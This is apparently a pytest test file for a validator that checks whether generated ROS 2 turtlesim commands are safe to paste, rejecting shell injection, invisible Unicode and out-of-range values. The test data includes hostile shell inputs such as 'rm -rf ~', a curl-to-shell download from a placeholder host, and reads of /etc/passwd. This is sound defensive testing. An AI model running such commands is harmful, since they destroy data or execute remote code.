# Copyright 2026 The ros2_prompt_tuning Authors
#
# Licensed under the Apache License, Version 2.0 (the "License");
# you may not use this file except in compliance with the License.
# You may obtain a copy of the License at
#
#     http://www.apache.org/licenses/LICENSE-2.0
#
# Unless required by applicable law or agreed to in writing, software
# distributed under the License is distributed on an "AS IS" BASIS,
# WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
# See the License for the specific language governing permissions and
# limitations under the License.

"""The command validator: safe-to-paste rules, parsing, validation, canonical text, equality."""

import json
from pathlib import Path
import re
import sys
import unicodedata

import pytest
from ros2_prompt_tuning.robot import RobotDescription
from ros2_prompt_tuning.validator import (canonical, check_line, Command, CommandError,
                                          DEFAULT_IGNORABLE, MAX_DEPTH, MAX_LINE_LENGTH,
                                          parse_command, same_command, UNSUPPORTED, validate)

DATA_DIR = Path(__file__).resolve().parent.parent / 'data' / 'turtlesim'


def quote_pen_off(command):
    """Write SetPen's key off as 'off', the contract's spelling (older data writes it bare)."""
    return command.replace(', off: ', ", 'off': ")


DATA_COMMANDS = sorted({quote_pen_off(json.loads(line)['command'])
                        for path in sorted(DATA_DIR.glob('*.jsonl'))
                        for line in path.read_text(encoding='utf-8').splitlines() if line.strip()})
TWIST = 'geometry_msgs/msg/Twist'
PUB = f'ros2 topic pub --once /turtle1/cmd_vel {TWIST} '
MOVE = PUB + '"{linear: {x: 2.0, y: 0.0, z: 0.0}, angular: {x: 0.0, y: 0.0, z: 0.0}}"'
PEN = 'ros2 service call /turtle1/set_pen turtlesim/srv/SetPen "{{{}}}"'
KILL = 'ros2 service call /kill turtlesim/srv/Kill "{{name: {}}}"'
SPEC_EXAMPLES = [
    MOVE,
    PUB + '"{linear: {x: 0.0, y: 0.0, z: 0.0}, angular: {x: 0.0, y: 0.0, z: -0.7854}}"',
    'ros2 service call /spawn turtlesim/srv/Spawn "{x: 3.0, y: 4.0, theta: 0.0, name: \'leo\'}"',
    'ros2 action send_goal /turtle1/rotate_absolute turtlesim/action/RotateAbsolute '
    '"{theta: 1.5708}"',
    'ros2 service call /clear std_srvs/srv/Empty',
    'ros2 param set /turtlesim background_r 0',
    'UNSUPPORTED',
]


def twist(x=0.0, z=0.0, option='--once'):
    return (f'ros2 topic pub {option} /turtle1/cmd_vel {TWIST} "{{linear: {{x: {x}, y: 0.0, '
            f'z: 0.0}}, angular: {{x: 0.0, y: 0.0, z: {z}}}}}"')


def problems_of(line):
    return validate(parse_command(line))


# --- accepted: the spec and the data set ----------------------------------------------------

@pytest.mark.parametrize('line', SPEC_EXAMPLES)
def test_spec_examples_are_valid_and_canonical(line):
    assert check_line(line) == (True, '')
    assert canonical(line) == line


def test_data_set_is_not_empty():
    assert len(DATA_COMMANDS) > 300 and UNSUPPORTED in DATA_COMMANDS


@pytest.mark.parametrize('line', DATA_COMMANDS)
def test_data_set_commands_are_valid_and_canonical(line):
    assert check_line(line) == (True, '')
    assert canonical(parse_command(line)) == line


# --- parsing --------------------------------------------------------------------------------

@pytest.mark.parametrize('option, expected', [
    ('--once', {'once': True}), ('-1', {'once': True}),
    ('--rate 1', {'rate': 1.0}), ('-r 2.5', {'rate': 2.5}), ('--rate=0.5', {'rate': 0.5}),
    ('--times 3', {'times': 3}), ('-t 4', {'times': 4}), ('--times=5', {'times': 5}),
])
def test_publish_options_are_normalised(option, expected):
    command = parse_command(f'ros2 topic pub {option} /turtle1/cmd_vel {TWIST}')
    assert {key: getattr(command, key) for key in ('once', 'rate', 'times')} == {
        'once': False, 'rate': None, 'times': None, **expected}


def test_options_may_follow_the_arguments():
    assert parse_command(f'ros2 topic pub /turtle1/cmd_vel {TWIST} "{{}}" -t 2').times == 2


def test_parse_topic_pub():
    assert parse_command(MOVE) == Command(
        'topic pub', '/turtle1/cmd_vel', TWIST, once=True,
        payload={'linear': {'x': 2.0, 'y': 0.0, 'z': 0.0},
                 'angular': {'x': 0.0, 'y': 0.0, 'z': 0.0}})


@pytest.mark.parametrize('line, kind, full_type', [
    ('ros2 topic pub -1 /turtle1/cmd_vel geometry_msgs/Twist', 'topic', TWIST),
    ('ros2 service call /clear std_srvs/Empty', 'service', 'std_srvs/srv/Empty'),
    ('ros2 action send_goal /turtle1/rotate_absolute turtlesim/RotateAbsolute "{theta: 1.0}"',
     'action', 'turtlesim/action/RotateAbsolute'),
])
def test_short_types_are_written_in_full(line, kind, full_type):
    command = parse_command(line)
    assert (command.kind, command.type_name) == (kind, full_type)


def test_parse_param_set():
    command = parse_command('ros2 param set /turtlesim background_b -1')
    assert (command.verb, command.kind, command.node, command.name, command.value) == (
        'param set', 'param', '/turtlesim', 'background_b', -1)


def test_parse_unsupported():
    assert parse_command('  UNSUPPORTED ') == Command(UNSUPPORTED)
    assert parse_command(UNSUPPORTED).kind is None


def test_set_pen_off_is_a_field_not_a_boolean():
    payload = parse_command(PEN.format("r: 1, g: 2, b: 3, width: 4, 'off': 1")).payload
    assert payload == {'r': 1, 'g': 2, 'b': 3, 'width': 4, 'off': 1}
    assert parse_command(PEN.format("'off': 1")).payload == {'off': 1}


@pytest.mark.parametrize('key', ['off', 'Off', 'OFF', 'on', 'yes', 'no', 'true', 'False'])
def test_bare_boolean_keys_are_rejected(key):
    # ros2cli's yaml.safe_load (YAML 1.1) would make the bare key a boolean.
    line = PEN.format(f'r: 1, g: 2, b: 3, width: 4, {key}: 1')
    with pytest.raises(CommandError, match=f'the key {key} must be written in single quotes '
                                           f"\\('{key}'\\)"):
        parse_command(line)
    ok, reason = check_line(line)
    assert not ok and 'YAML 1.1' in reason


def test_quoted_off_key_is_canonical_and_compared():
    line = PEN.format("r: 255, g: 0, b: 0, width: 3, 'off': 0")
    assert check_line(line) == (True, '')
    assert canonical(PEN.format("'off': 0, width: 3, r: 255")) == line
    assert same_command(line, PEN.format("r: 255, width: 3, 'off': 0"))
    assert not same_command(line, PEN.format("r: 255, g: 0, b: 0, width: 3, 'off': 1"))
    assert not same_command(line, line.replace("'off'", 'off'))


def test_single_quoted_payload_is_the_same_command():
    line = MOVE.replace('"', "'")
    assert parse_command(line) == parse_command(MOVE)
    assert canonical(line) == MOVE


# --- rejected before anything runs: safe to paste ------------------------------------------

@pytest.mark.parametrize('line, message', [
    (MOVE + '; rm -rf ~', 'a command separator'),
    (MOVE + ' && curl http://x.invalid/a | sh', 'a background or && operator'),
    (MOVE + ' & ', 'a background or && operator'),
    (MOVE + ' | tee log', 'a pipe'),
    ('ros2 service call /clear std_srvs/srv/Empty > /tmp/out', 'a redirection'),
    ('ros2 service call /clear std_srvs/srv/Empty < /etc/passwd', 'a redirection'),
    ('ros2 service call /clear std_srvs/srv/Empty 2>&1', 'a redirection'),
    ('ros2 service call /clear `whoami`', 'a command substitution'),
    ('ros2 service call $(whoami) std_srvs/srv/Empty', 'an expansion'),
    ('ros2 service call /clear ${TYPE}', 'an expansion'),
    ('(ros2 service call /clear std_srvs/srv/Empty)', 'a subshell'),
    ('ros2 service call /clear std_srvs/srv/Empty !!', 'a history expansion'),
    ('ros2 service call ~/clear std_srvs/srv/Empty', 'a tilde expansion'),
    ('ros2 service call /cl* std_srvs/srv/Empty', 'a glob'),
    ('ros2 service call /clea? std_srvs/srv/Empty', 'a glob'),
    ('ros2 service call /[c]lear std_srvs/srv/Empty', 'a glob'),
    ('ros2 service call /{clear,reset} std_srvs/srv/Empty', 'a brace expansion'),
    ('ros2 service call /clear std_srvs/srv/Empty # comment', 'a comment'),
    ('ros2 service call /clear std_srvs/srv/Empty \\', 'an escape'),
    (PUB + '"{linear: {x: $(reboot)}}"', 'an expansion) inside double quotes'),
    (PUB + '"{linear: {x: $X}}"', 'an expansion) inside double quotes'),
    (PUB + '"{linear: {x: `reboot`}}"', 'a command substitution) inside double quotes'),
    (PUB + '"{linear: {x: !!float 1}}"', 'a history expansion) inside double quotes'),
    (PUB + '"{linear: {x: \\"1\\"}}"', 'an escape) inside double quotes'),
    (MOVE + '\nros2 service call /clear std_srvs/srv/Empty', 'a line break'),
    ('ros2 service call /clear std_srvs/srv/Empty\n', 'a line break'),
    ('ros2 service call /clear std_srvs/srv/Empty\rrm x', 'a line break'),
    ('ros2 service call /clear std_srvs/srv/Empty\u2028rm x', '(U+2028)'),
    ('ros2 service call /clear std_srvs/srv/Empty\u2029rm x', '(U+2029)'),
    ('ros2 service call /clear\tstd_srvs/srv/Empty', 'a control character (U+0009)'),
    ('ros2 service call /clear std_srvs/srv/Empty\x1b[2J', 'a control character (U+001B)'),
    ('ros2 service call /clear\u00a0std_srvs/srv/Empty', 'a space other than the plain space'),
    ('ros2 service call /spawn turtlesim/srv/Spawn "{name: \'le\ue000o\'}"', 'private-use'),
    ('ros2 service call /clear std_srvs/srv/Empty "', 'unterminated " quote'),
    ("ros2 service call /kill turtlesim/srv/Kill \"{name: 'leo}", 'unterminated " quote'),
])
def test_unsafe_lines_are_rejected(line, message):
    with pytest.raises(CommandError, match=re.escape(message)):
        parse_command(line)
    ok, reason = check_line(line)
    assert not ok and message in reason


@pytest.mark.parametrize('character', ['\u200b', '\u200c', '\u200d', '\u2060', '\ufeff'])
@pytest.mark.parametrize('where', ['start', 'name', 'quoted'])
def test_zero_width_characters_are_rejected_anywhere(character, where):
    line = {'start': character + MOVE, 'name': MOVE.replace('turtle1', 'turtle' + character),
            'quoted': MOVE.replace('x: 2.0', 'x: 2.0' + character)}[where]
    assert check_line(line)[0] is False
    assert f'a zero-width character (U+{ord(character):04X})' in check_line(line)[1]


@pytest.mark.parametrize('character', ['\u202a', '\u202b', '\u202c', '\u202d', '\u202e',
                                       '\u2066', '\u2067', '\u2068', '\u2069'])
def test_bidirectional_characters_are_rejected(character):
    line = f'ros2 service call /kill turtlesim/srv/Kill "{{name: \'{character}leo\'}}"'
    with pytest.raises(CommandError, match='a bidirectional control character'):
        parse_command(line)


INVISIBLE = ['\u00ad', '\u034f', '\u061c', '\u115f', '\u1160', '\u17b4', '\u17b5', '\u180b',
             '\u180c', '\u180d', '\u180e', '\u180f', '\u200e', '\u2061', '\u2064', '\u206f',
             '\u2800', '\u3164', '\ufe00', '\ufe0f', '\uffa0', '\ufff0', '\U0001bca0',
             '\U0001d173', '\U000e0001', '\U000e0041', '\U000e007f', '\U000e0100', '\U000e01ef']


@pytest.mark.parametrize('character', INVISIBLE)
@pytest.mark.parametrize('where', ['start', 'end', 'word', 'name', 'quoted'])
def test_invisible_characters_are_rejected_anywhere(character, where):
    line = {'start': character + MOVE, 'end': MOVE + character,
            'word': MOVE.replace('ros2', 'ros' + character + '2'),
            'name': MOVE.replace('turtle1', 'turtle' + character),
            'quoted': KILL.format(f"'le{character}o'")}[where]
    ok, reason = check_line(line)
    assert not ok and f'(U+{ord(character):04X})' in reason


def test_every_format_and_default_ignorable_character_is_rejected():
    codes = [code for code in range(sys.maxunicode + 1)
             if unicodedata.category(chr(code)) == 'Cf'
             or any(low <= code <= high for low, high in DEFAULT_IGNORABLE)]
    assert len(codes) > 4000
    accepted = [f'U+{code:04X}' for code in codes
                if check_line(KILL.format(f"'le{chr(code)}o'"))[0]]
    assert accepted == []


@pytest.mark.parametrize('line', [
    "'UNSUPPORTED'",
    '"UNSUPPORTED"',
    "UNSUPP''ORTED",
    'UNSUPPORTED""',
    "r''os2 service call /clear std_srvs/srv/Empty",
    "'ros2' service call /clear std_srvs/srv/Empty",
    'ros2 "service" call /clear std_srvs/srv/Empty',
    "ros2 service call '/clear' std_srvs/srv/Empty",
    "ros2 service call /clear 'std_srvs/srv/Empty'",
    "ros2 service call /cl''ear std_srvs/srv/Empty",
    f"ros2 topic pub --rate '1' /turtle1/cmd_vel {TWIST}",
    f"ros2 topic pub '--once' /turtle1/cmd_vel {TWIST}",
    f'ros2 topic pub --times="2" /turtle1/cmd_vel {TWIST}',
    "ros2 param set /turtlesim 'background_r' 5",
])
def test_quotes_outside_the_payload_are_rejected(line):
    ok, reason = check_line(line)
    assert not ok and 'holds quote characters' in reason


@pytest.mark.parametrize('line', [
    PUB + '"{linear: {x: 1.0}}"\'\'',
    PUB + '"{linear:"\' {x: 1.0}}\'',
    PUB + '{}"{linear: {x: 1.0}}"'.replace('{}', 'x'),
    "ros2 param set /turtlesim background_r 1'0'",
])
def test_payload_and_value_are_each_one_quoted_string(line):
    ok, reason = check_line(line)
    assert not ok and 'must be one quoted string' in reason


@pytest.mark.parametrize('line', [
    PUB + '"{[a]: 1}"',
    PUB + '"{{a: 1}: 1}"',
    PUB + '"' + '[' * 3000 + '"',
    PUB + '"' + '{a: ' * 3000 + '"',
    PUB + '"{linear: {x: ' + '9' * 5000 + '}}"',
    'ros2 param set /turtlesim background_r ' + '9' * 5000,
    f'ros2 topic pub --times {"9" * 5000} /turtle1/cmd_vel {TWIST}',
    'ros2 ' * 2000,
    '"' * 5000,
    '',
    '\ud800',
    '\x00',
])
def test_check_line_answers_lines_that_once_broke_it(line):
    ok, reason = check_line(line)
    assert ok is False and isinstance(reason, str) and reason


@pytest.mark.parametrize('value', [None, 5, 1.5, b'UNSUPPORTED', ['UNSUPPORTED'],
                                   Command(UNSUPPORTED)])
def test_check_line_answers_values_that_are_not_text(value):
    ok, reason = check_line(value)
    assert ok is False and 'expected one line of text' in reason
    with pytest.raises(CommandError, match='expected one line of text'):
        parse_command(value)


@pytest.mark.parametrize('line, message', [
    (PUB + '"{linear: {x: 1.0}, angular: {z: ' + ' ' * MAX_LINE_LENGTH + '1.0}}"',
     f'a command has at most {MAX_LINE_LENGTH}'),
    (PUB + '"{[a]: 1}"', 'a mapping key must be a single value'),
    (PUB + '"{linear: {x: ' + '[' * (MAX_DEPTH - 1) + '1.0' + ']' * (MAX_DEPTH - 1) + '}}"',
     f'the payload nests deeper than {MAX_DEPTH} levels'),
    ("ros2 param set /turtlesim background_r '" + '[' * (MAX_DEPTH + 1) + '1'
     + ']' * (MAX_DEPTH + 1) + "'", f'the parameter value nests deeper than {MAX_DEPTH} levels'),
    (PUB + '"{linear: {x: ' + '1' * 33 + '}}"', 'the payload has a number longer than 32'),
    (PUB + '"{linear: {x: 0.' + '0' * 31 + '}}"', 'the payload has a number longer than 32'),
    ('ros2 param set /turtlesim background_r ' + '0' * 33,
     'the parameter value has a number longer than 32'),
    (f'ros2 topic pub --times {"1" * 33} /turtle1/cmd_vel {TWIST}',
     '--times needs a whole number of at most 32 characters, got 33'),
    (f'ros2 topic pub --rate=0.{"0" * 30}1 /turtle1/cmd_vel {TWIST}',
     '--rate needs a number of at most 32 characters'),
])
def test_lines_beyond_the_size_limits_are_rejected(line, message):
    ok, reason = check_line(line)
    assert not ok and message in reason


def test_lines_within_the_size_limits_are_accepted():
    assert check_line(PUB + '"{linear: {x: ' + '0' * 31 + '1}}"') == (True, '')
    assert check_line(PUB + '"{linear: {x: 0.' + '0' * 29 + '1}}"') == (True, '')
    assert check_line(f'ros2 topic pub --times {"0" * 31}5 /turtle1/cmd_vel {TWIST}')[0]
    assert check_line(MOVE.replace(', ', ',' + ' ' * 100))[0]


@pytest.mark.parametrize('line', [
    f'ros2 topic pub --times \uff13 /turtle1/cmd_vel {TWIST}',
    f'ros2 topic pub -t \u0663 /turtle1/cmd_vel {TWIST}',
    f'ros2 topic pub --rate \uff11 /turtle1/cmd_vel {TWIST}',
    f'ros2 topic pub --rate=1.\u0665 /turtle1/cmd_vel {TWIST}',
    f'ros2 topic pub --times 1_0 /turtle1/cmd_vel {TWIST}',
    f'ros2 topic pub --times 0x10 /turtle1/cmd_vel {TWIST}',
    f'ros2 topic pub --rate 1e1 /turtle1/cmd_vel {TWIST}',
    f'ros2 topic pub --rate inf /turtle1/cmd_vel {TWIST}',
    f'ros2 topic pub --rate nan /turtle1/cmd_vel {TWIST}',
    PUB + '"{linear: {x: \uff12.0}}"',
    PUB + '"{linear: {x: 2.\u0660}}"',
    'ros2 param set /turtlesim background_r \uff15',
    'ros2 param set /turtlesim background_r -\u0665',
    PEN.format('r: \u0662\u0665\u0665'),
])
def test_numbers_are_ascii_digits_only(line):
    assert check_line(line)[0] is False


# --- rejected: not one of the four forms ----------------------------------------------------

@pytest.mark.parametrize('line, message', [
    ('', 'the line is empty'),
    ('   ', 'the line is empty'),
    ('UNSUPPORTED please', 'UNSUPPORTED must stand alone'),
    ('unsupported', 'not a ros2 command'),
    ('rm -rf /tmp/x', 'not a ros2 command'),
    ('sudo ros2 service call /clear std_srvs/srv/Empty', 'not a ros2 command'),
    ('ros2 topic echo /turtle1/pose', '"ros2 topic echo" is not one of the allowed forms'),
    ('ros2 run turtlesim turtlesim_node', '"ros2 run turtlesim" is not one'),
    ('ros2', '"ros2 " is not one of the allowed forms'),
    (f'ros2 topic pub /turtle1/cmd_vel {TWIST}', 'needs exactly one of --once'),
    (f'ros2 topic pub --once --times 2 /turtle1/cmd_vel {TWIST}', 'needs exactly one of'),
    (f'ros2 topic pub --rate 1 -r 2 /turtle1/cmd_vel {TWIST}', '--rate is given twice'),
    (f'ros2 topic pub -w 1 --once /turtle1/cmd_vel {TWIST}', "unsupported option '-w'"),
    (f'ros2 topic pub --once=1 /turtle1/cmd_vel {TWIST}', '--once takes no value'),
    (f'ros2 topic pub --rate fast /turtle1/cmd_vel {TWIST}', "--rate needs a number, got 'fast'"),
    (f'ros2 topic pub /turtle1/cmd_vel {TWIST} --rate', '--rate needs a number, got None'),
    (f'ros2 topic pub --times 2.5 /turtle1/cmd_vel {TWIST}', '--times needs a whole number'),
    ('ros2 service call -r 1 /clear std_srvs/srv/Empty', 'this form takes no options'),
    ('ros2 action send_goal -f /turtle1/rotate_absolute turtlesim/action/RotateAbsolute '
     '"{theta: 1.0}"', 'this form takes no options'),
    ('ros2 action send_goal /turtle1/rotate_absolute turtlesim/action/RotateAbsolute',
     'takes NAME TYPE "YAML", got 2 arguments'),
    ('ros2 service call /clear', 'takes NAME TYPE ["YAML"], got 1 arguments'),
    ('ros2 service call /clear std_srvs/srv/Empty "{}" ros2 service call /reset',
     'got 7 arguments'),
    ('ros2 param set /turtlesim background_r', 'takes exactly NODE NAME VALUE'),
    ('ros2 param set turtlesim background_r 0', "'turtlesim' is not a fully qualified node"),
    ('ros2 param set /turtlesim 9lives 0', "'9lives' is not a parameter name"),
    (f'ros2 topic pub --once turtle1/cmd_vel {TWIST}', 'not a fully qualified topic name'),
    (f'ros2 topic pub --once /turtle1//cmd_vel {TWIST}', 'not a fully qualified topic name'),
    ('ros2 service call /clear Empty', "'Empty' is not an interface type"),
    ('ros2 service call /clear std_srvs/srvs/Empty', 'is not an interface type'),
])
def test_lines_outside_the_four_forms_are_rejected(line, message):
    ok, reason = check_line(line)
    assert not ok and message in reason


@pytest.mark.parametrize('payload, message', [
    ('{linear: {x: 1.0}', 'the payload is not valid YAML'),
    ('{linear: {x: 1.0}}}', 'the payload is not valid YAML'),
    ('{linear: [1.0}', 'the payload is not valid YAML'),
    ('{linear: {x: 1.0}, linear: {x: 2.0}}', "duplicate key 'linear'"),
    ('', 'the payload must be one YAML flow mapping'),
    ('linear: {x: 1.0}', 'the payload must be one YAML flow mapping'),
    ('[1.0, 2.0]', 'the payload must be one YAML flow mapping'),
    ('{linear: {x: 1.0}} # note', 'the payload must be one YAML flow mapping'),
    ('{linear: &v {x: 1.0}, angular: *v}', 'the payload may not use YAML anchors (&)'),
    ('{linear: {x: 1.0}, angular: *v}', 'the payload may not use YAML aliases (*)'),
    ('{linear: !!map {x: 1.0}}', 'the payload may not use YAML tags (!)'),
    ('{linear: {x: !!float 1}}', 'the payload may not use YAML tags (!)'),
])
def test_payloads_that_are_not_plain_flow_mappings_are_rejected(payload, message):
    # Single quotes keep bash from reading "!" so that the YAML check itself is exercised.
    ok, reason = check_line(f"{PUB}'{payload}'")
    assert not ok and message in reason


# --- validation against the robot -----------------------------------------------------------

@pytest.mark.parametrize('line, problem', [
    (PUB + '"{linear: {x: 1.0, w: 2.0}}"',
     'geometry_msgs/msg/Vector3 has no field linear.w (its fields: x, y, z)'),
    (PUB + '"{forward: 1.0}"', f'{TWIST} has no field forward (its fields: linear, angular)'),
    (PUB + '"{linear: 1.0}"', 'linear must be a mapping of the fields of '
                              'geometry_msgs/msg/Vector3'),
    (PUB + '"{linear: {x: fast}}"', "linear.x must be a number, not 'fast'"),
    (PUB + '"{linear: {x: \'1.0\'}}"', "linear.x must be a number, not '1.0'"),
    (PUB + '"{linear: {x: true}}"', 'linear.x must be a number, not True'),
    (PUB + '"{linear: {x: off}}"', "linear.x must be a number, not 'off'"),
    (PUB + '"{linear: {x: null}}"', 'linear.x must be a number, not None'),
    (PUB + '"{linear: {x: .inf}}"', 'linear.x must be a finite number, not inf'),
    (PEN.format('r: 256'), 'r must be between 0 and 255, not 256'),
    (PEN.format('g: -1'), 'g must be between 0 and 255, not -1'),
    (PEN.format('r: 1.5'), 'r must be a whole number, not 1.5'),
    (PEN.format('r: 255.0'), 'r must be a whole number, not 255.0'),
    (PEN.format('width: 0'), 'width must be between 1 and 50, not 0'),
    (PEN.format('width: 51'), 'width must be between 1 and 50, not 51'),
    (PEN.format("'off': 2"), 'off must be between 0 and 1, not 2'),
    (PEN.format('r: 1, g: 2, b: 3'), 'width must be between 1 and 50, not 0 (omitted, so zero)'),
    (PEN.format("'off': true"), 'off must be a whole number, not True'),
    ('ros2 service call /kill turtlesim/srv/Kill "{name: 5}"', 'name must be a string, not 5'),
    ("ros2 service call /kill turtlesim/srv/Kill '{name: \"$HOME\"}'",
     'name contains a character that cannot be written safely in a command'),
    ("ros2 service call /kill turtlesim/srv/Kill '{name: \"\\u202eleo\"}'",
     'name contains a character that cannot be written safely in a command'),
    ("ros2 service call /kill turtlesim/srv/Kill '{name: \"le\\no\"}'",
     'name contains a character that cannot be written safely in a command'),
    ('ros2 service call /clear std_srvs/srv/Empty "{x: 1}"',
     'std_srvs/srv/Empty has no field x (it has no fields)'),
    ('ros2 param set /turtlesim background_r -1', 'background_r must be between 0 and 255'),
    ('ros2 param set /turtlesim background_g 256', 'background_g must be between 0 and 255'),
    ('ros2 param set /turtlesim background_b 0.5', 'background_b must be a whole number'),
    ('ros2 param set /turtlesim background_b blue',
     "background_b must be a whole number, not 'blue'"),
    ('ros2 param set /turtlesim background_x 0', 'turtlesim has no parameter background_x on '
                                                 'node /turtlesim (known: /turtlesim '
                                                 'background_r, '),
    ('ros2 param set /turtle1 background_r 0', 'has no parameter background_r on node /turtle1'),
    (f'ros2 topic pub --once /turtle1/pose {TWIST}',
     'turtlesim has no topic /turtle1/pose (known: /<turtle>/cmd_vel)'),
    ('ros2 service call /turtle1/clear std_srvs/srv/Empty', 'turtlesim has no service '
                                                            '/turtle1/clear (known: /clear, '),
    ('ros2 action send_goal /turtle1/move turtlesim/action/RotateAbsolute "{theta: 1.0}"',
     'turtlesim has no action /turtle1/move'),
    ('ros2 topic pub --once /turtle1/cmd_vel geometry_msgs/msg/Twist2',
     '/turtle1/cmd_vel has the type geometry_msgs/msg/Twist, not geometry_msgs/msg/Twist2'),
    ('ros2 service call /clear std_srvs/srv/Trigger', 'not std_srvs/srv/Trigger'),
    ('ros2 service call /spawn turtlesim/msg/Spawn', 'not turtlesim/msg/Spawn'),
    (f'ros2 topic pub --rate 0 /turtle1/cmd_vel {TWIST}', '--rate must be greater than 0'),
    (f'ros2 topic pub --rate -2 /turtle1/cmd_vel {TWIST}', '--rate must be greater than 0'),
    (f'ros2 topic pub --times 0 /turtle1/cmd_vel {TWIST}', '--times must be at least 1, not 0'),
])
def test_invalid_commands_are_reported(line, problem):
    problems = problems_of(line)
    assert any(problem in text for text in problems), problems
    ok, reason = check_line(line)
    assert not ok and problem in reason


@pytest.mark.parametrize('line, problem', [
    (KILL.format("'-rf'"), "name must match ^[A-Za-z][A-Za-z0-9_]{0,63}$, not '-rf'"),
    (KILL.format("'a b/c;d'"), 'name must match'),
    (KILL.format("'\U0001f422'"), "not '\\U0001f422'"),
    (KILL.format("'l\u0435o'"), "not 'l\\u0435o'"),
    (KILL.format("''"), "name must match ^[A-Za-z][A-Za-z0-9_]{0,63}$, not ''"),
    (KILL.format("'1turtle'"), 'name must match'),
    (KILL.format("'" + 'a' * 65 + "'"), 'name must match'),
    (KILL.format('"leo\\n"').replace('"{', "'{").replace('}"', "}'"), 'name contains a character'),
    ('ros2 service call /kill turtlesim/srv/Kill', 'name must match ^[A-Za-z][A-Za-z0-9_]{0,63}$, '
                                                   "not '' (omitted, so zero)"),
    ('ros2 service call /spawn turtlesim/srv/Spawn "{name: \'o\'\'neil\'}"', 'name must match'),
    (KILL.format('off'), 'name: ros2cli reads the bare word off as a boolean (YAML 1.1); write '
                         "the string in single quotes ('off')"),
    (KILL.format('Yes'), 'reads the bare word Yes as a boolean'),
])
def test_strings_must_match_their_pattern(line, problem):
    ok, reason = check_line(line)
    assert not ok and problem in reason


@pytest.mark.parametrize('line', [
    KILL.format("'leo'"), KILL.format('leo'), KILL.format("'off'"), KILL.format("'T_800'"),
    KILL.format("'" + 'a' * 64 + "'"),
    'ros2 service call /spawn turtlesim/srv/Spawn "{x: 1.0, y: 1.0, theta: 0.0, name: \'\'}"',
])
def test_strings_that_match_their_pattern_are_valid(line):
    assert check_line(line) == (True, '')


SPAWN = 'ros2 service call /spawn turtlesim/srv/Spawn "{{{}}}"'
TELEPORT = 'ros2 service call /turtle1/teleport_absolute turtlesim/srv/TeleportAbsolute "{{{}}}"'
RELATIVE = 'ros2 service call /turtle1/teleport_relative turtlesim/srv/TeleportRelative "{{{}}}"'
ROTATE = 'ros2 action send_goal /turtle1/rotate_absolute turtlesim/action/RotateAbsolute "{{{}}}"'


@pytest.mark.parametrize('line', [
    SPAWN.format('x: 0.0, y: 11.09, theta: -6.2832'), SPAWN.format('x: 11.09, theta: 6.2832'),
    TELEPORT.format('x: 5.54, y: 0, theta: 3.1416'),
    RELATIVE.format('linear: -20, angular: 6.2832'),
    ROTATE.format('theta: -6.2832'), twist(x=20.0, z=-20.0), twist(x=-20, z=20),
    PEN.format("r: 0, g: 255, b: 128, width: 1, 'off': 1"),
    f'ros2 topic pub --rate 100 /turtle1/cmd_vel {TWIST}',
    f'ros2 topic pub --rate 0.001 /turtle1/cmd_vel {TWIST}',
    f'ros2 topic pub --times 1000 /turtle1/cmd_vel {TWIST}',
    f'ros2 topic pub -t 1 /turtle1/cmd_vel {TWIST}',
    'ros2 param set /turtlesim background_b 255',
])
def test_numbers_at_the_ends_of_their_ranges_are_valid(line):
    assert check_line(line) == (True, '')


@pytest.mark.parametrize('line, problem', [
    (SPAWN.format('x: 11.1'), 'x must be between 0.0 and 11.09, not 11.1'),
    (SPAWN.format('y: -0.01'), 'y must be between 0.0 and 11.09, not -0.01'),
    (SPAWN.format('theta: 6.3'), 'theta must be between -6.2832 and 6.2832, not 6.3'),
    (TELEPORT.format('x: 1.0e+300'), 'x must be between 0.0 and 11.09, not 1e+300'),
    (TELEPORT.format('theta: -7'), 'theta must be between -6.2832 and 6.2832, not -7'),
    (RELATIVE.format('linear: 20.5'), 'linear must be between -20.0 and 20.0, not 20.5'),
    (RELATIVE.format('angular: 6.3'), 'angular must be between -6.2832 and 6.2832'),
    (ROTATE.format('theta: 100.0'), 'theta must be between -6.2832 and 6.2832, not 100.0'),
    (twist(x=20.5), 'linear.x must be between -20.0 and 20.0, not 20.5'),
    (twist(z='-1.0e+300'), 'angular.z must be between -20.0 and 20.0, not -1e+300'),
    (twist(x='.inf'), 'linear.x must be a finite number, not inf'),
    (twist(x='-.inf'), 'linear.x must be a finite number, not -inf'),
    (twist(x='.nan'), 'linear.x must be a finite number, not nan'),
    (twist(x='1.0e+400'), 'linear.x must be a finite number, not inf'),
    (twist(x=21), 'linear.x must be between -20.0 and 20.0, not 21'),
    (PEN.format('width: 51'), 'width must be between 1 and 50, not 51'),
    (f'ros2 topic pub --rate 100.5 /turtle1/cmd_vel {TWIST}', '--rate must be at most 100, '
                                                              'not 100.5'),
    (f'ros2 topic pub --rate 0.0005 /turtle1/cmd_vel {TWIST}', '--rate must be at least 0.001, '
                                                               'not 0.0005'),
    (f'ros2 topic pub --rate 0.0 /turtle1/cmd_vel {TWIST}', '--rate must be greater than 0'),
    (f'ros2 topic pub --times 1001 /turtle1/cmd_vel {TWIST}', '--times must be at most 1000, '
                                                              'not 1001'),
    (f'ros2 topic pub -t 100000 /turtle1/cmd_vel {TWIST}', '--times must be at most 1000'),
    ('ros2 param set /turtlesim background_r 300', 'background_r must be between 0 and 255'),
])
def test_numbers_outside_their_ranges_are_rejected(line, problem):
    ok, reason = check_line(line)
    assert not ok and problem in reason, reason


def test_float32_fields_stop_at_the_largest_float32(tmp_path):
    path = tmp_path / 'float.yaml'
    path.write_text('name: f\ntopics: [{name: /v, type: f_msgs/msg/V, fields: '
                    '[{name: a, type: float32}, {name: b, type: float64}]}]\n', encoding='utf-8')
    robot = RobotDescription.load(path)
    pub = 'ros2 topic pub --once /v f_msgs/msg/V "{{{}}}"'
    assert check_line(pub.format('a: 3.4e+38, b: 1.0e+300'), robot) == (True, '')
    assert check_line(pub.format('a: -3.4e+38'), robot) == (True, '')
    for value in ('3.5e+38', '-3.5e+38', '1.0e+300'):
        ok, reason = check_line(pub.format(f'a: {value}'), robot)
        assert not ok and 'a must be between -3.4028234663852886e+38 and' in reason
    assert not check_line(pub.format('b: 1.0e+309'), robot)[0]
    assert canonical(pub.format('a: 3.4e+38, b: 1.0e-300'), robot) == pub.format(
        'a: 3.4e+38, b: 1.0e-300')


def test_every_problem_is_reported():
    problems = problems_of(PEN.format("r: 256, g: 0, b: 0, width: 0, 'off': 2, colour: 1"))
    assert len(problems) == 4


@pytest.mark.parametrize('line', [
    PUB.strip(),
    PUB + '"{}"',
    PUB + '"{angular: {z: 1}}"',
    PEN.format("r: 255, g: 0, b: 0, width: 50, 'off': 0"),
